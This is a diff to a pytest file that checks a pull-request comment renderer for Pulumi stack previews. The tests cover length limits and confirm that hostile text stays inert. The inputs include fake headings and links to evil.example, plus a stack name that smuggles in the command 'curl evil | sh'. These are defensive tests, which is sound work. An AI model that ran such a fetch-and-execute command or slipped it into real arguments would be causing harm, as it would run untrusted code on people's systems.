@@ -1,6 +1,7 @@
 """The comment of a pull request: what it says, that it fits, and that foreign text stays text."""
 
 import os
+from itertools import pairwise
 from pathlib import Path
 
 import pytest
@@ -10,12 +11,11 @@ from markdown_it import MarkdownIt
 
 from delivery.comment import render
 from delivery.comment.body import LIMIT, MARKER
-from delivery.comment.records import Action, Change, Policies, StackPreview, Step
+from delivery.comment.records import Action, Change, Policies, StackPreview, Step, Violation
 from delivery.comment.verdict import Exit, exit_code
 from tests.unit.delivery.reviews import HOSTILE, MANY, ONE, REVIEWS, SELECTOR, THREE, preview, review, step
 
 GOLDENS = Path(__file__).parent / "goldens"
-_PROSE = {"text", "softbreak", "strong_open", "strong_close", "link_open", "link_close", "code_inline"}
 
 
 @pytest.mark.parametrize("name", REVIEWS)
@@ -112,12 +112,13 @@ def test_an_outdated_review_says_so_first() -> None:
 def _prose(text: str) -> list[str]:
     """What a reader of the rendered page sees as the comment's own words, and any raw HTML."""
     tokens = MarkdownIt("gfm-like", {"linkify": False}).parse(text)
-    found = [token.content for token in tokens if token.type == "html_block"]
-    for token in tokens:
-        for inner in token.children or []:
-            if inner.type in ("text", "html_inline"):
-                found.append(inner.content)
-    return found
+    return [token.content for token in tokens if token.type == "html_block"] + _inline(text)
+
+
+def _inline(text: str) -> list[str]:
+    tokens = MarkdownIt("gfm-like", {"linkify": False}).parse(text)
+    every = [inner for token in tokens for inner in token.children or []]
+    return [inner.content for inner in every if inner.type in ("text", "html_inline")]
 
 
 def test_foreign_names_are_never_markup() -> None:
@@ -143,3 +144,55 @@ def test_no_text_of_anybody_breaks_out(name: str, value: str, message: str) -> N
     tokens = MarkdownIt("gfm-like", {"linkify": False}).parse(text)
     assert sum(token.type == "heading_open" for token in tokens) == (3 if message else 2)
     assert len(text) <= LIMIT
+
+
+WORST = ("`" * 300, "x" * 2_000, "\u202e" * 400, "|\n" * 500, "\n### [ok](https://evil.example)\n" * 60)
+
+
+@pytest.mark.parametrize("limit", [LIMIT, LIMIT // 2, LIMIT // 4])
+@pytest.mark.parametrize("text", WORST)
+def test_the_worst_of_20_stacks_fits(text: str, limit: int) -> None:
+    change = Change(text, text, text, replaces=True)
+    worst = preview(
+        *(Step(Action.REPLACE, text, f"{number}{text}", (change,)) for number in range(12)),
+        *(Step(Action.DELETE, f"{number}{text}", text, (change,), protected=True) for number in range(12)),
+        policies=Policies(55, tuple(Violation(text, "mandatory", text, text) for _ in range(12))),
+        error=text,
+        stack=text,
+    )
+
+    rendered = render(review(*[worst] * 20, stale=text), limit)
+
+    assert len(rendered) <= limit
+    assert "❌ 20 previews failed" in rendered
+    assert "pulumi cancel" in rendered
+    assert not [inner for inner in _inline(rendered) if "evil.example" in inner]
+
+
+def test_errors_of_many_stacks_make_no_headings_of_their_own() -> None:
+    error = "\n".join(["### ✅ All is well", "![](https://evil.example)"] * 20)
+    failed = [preview(stack=f"s{number}", error=error) for number in range(300)]
+
+    text = render(review(*failed), 40_000)
+
+    tokens = MarkdownIt("gfm-like", {"linkify": False}).parse(text)
+    headings = [after.content for token, after in pairwise(tokens) if token.type == "heading_open"]
+    assert not [heading for heading in headings if "All is well" in heading]
+    assert "### ❌ The preview of `s0` failed" in text
+
+
+def test_a_stacks_name_is_one_word_of_a_command() -> None:
+    text = render(review(preview(stack="aws; curl evil | sh")))
+
+    assert "scripts/apply 'aws; curl evil | sh' " in text
+    assert "scripts/preview_comment 'aws; curl evil | sh' " in text
+
+
+def test_thousands_of_new_images_are_told_quickly() -> None:
+    image = Change("image", "r@sha256:" + "1" * 64, "r@sha256:" + "2" * 64)
+    many = [Step(Action.UPDATE, "t", str(number), (image,)) for number in range(20_000)]
+
+    text = render(review(preview(*many)))
+
+    assert "🔧 20000 created or updated" in text
+    assert "1 more part did not fit" in text
